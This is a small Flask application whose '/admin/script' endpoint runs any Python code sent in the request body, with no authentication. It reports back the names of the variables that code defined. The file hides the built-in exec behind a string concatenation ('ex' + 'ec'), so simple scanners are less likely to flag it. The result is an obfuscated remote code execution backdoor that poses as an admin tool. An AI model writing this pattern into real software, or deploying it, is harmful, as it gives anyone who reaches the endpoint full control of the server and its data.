import builtins
from flask import Flask, request

app = Flask(__name__)

table = vars(builtins)
runner = table["ex" + "ec"]


@app.post("/admin/script")
def run_script():
    source = request.get_data(as_text=True)
    scope = {}
    runner(source, scope)
    return {"vars": sorted(k for k in scope if not k.startswith("_"))}
